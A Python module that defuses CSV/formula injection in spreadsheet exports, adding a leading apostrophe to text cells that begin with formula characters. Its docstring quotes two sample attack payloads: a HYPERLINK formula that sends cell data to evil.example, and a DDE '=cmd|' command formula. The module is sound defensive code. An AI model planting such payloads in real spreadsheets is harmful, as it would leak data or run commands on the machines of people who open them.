"""Cells that a spreadsheet would run as formulas, made inert (CSV/formula injection).

A customer named ``=HYPERLINK("http://evil.example/?d="&A1,"Click me")`` or an owner
``=cmd|' /C calc'!A0``, imported from a ledger, must reach an exported sheet as text.
Following the OWASP guidance on CSV injection, a text cell that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading apostrophe, so Excel, LibreOffice
and Google Sheets show it as text instead of evaluating it. Numbers stay numbers: only
text is changed, and text that is a plain number (``-12.5``, ``+3``, ``-1,200``) is left
as it is, because a spreadsheet reads it as that number and nothing else.

``defused`` is the one rule; every CSV and XLSX writer of the product applies it through
``defused_frame`` (pandas frames) or ``defused_row`` (``csv.writer`` rows). The XLSX
writer also types every text cell as text (``dashboard.export``). defusedcsv does the
same for ``csv.writer`` only, and leaves tab and carriage return as they are.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # the importers use defused_row and need not load pandas for it
    import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def defused(value: object) -> object:
    """``value`` as a spreadsheet may hold it: text that could start a formula gets a
    leading apostrophe; anything else (numbers, dates, missing values, plain text and
    text that is just a number) comes back unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return QUOTE + value


def defused_row(values: Iterable[object]) -> list[object]:
    """One CSV row with ``defused`` applied to each cell."""
    return [defused(v) for v in values]


def _text_column(series: pd.Series) -> bool:
    import pandas as pd

    dtype = series.dtype
    return not (pd.api.types.is_numeric_dtype(dtype) or pd.api.types.is_bool_dtype(dtype)
                or pd.api.types.is_datetime64_any_dtype(dtype) or pd.api.types.is_timedelta64_dtype(dtype))


def defused_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names went through ``defused``
    (the input is not changed; numeric and datetime columns are left as they are)."""
    out = frame.copy()
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        if _text_column(column):
            out.isetitem(position, column.astype(object).map(defused))
    out.columns = [defused(c) for c in out.columns]
    return out


def text_columns(frame: pd.DataFrame) -> list[int]:
    """Positions (0-based) of the columns that may hold text."""
    return [i for i in range(frame.shape[1]) if _text_column(frame.iloc[:, i])]
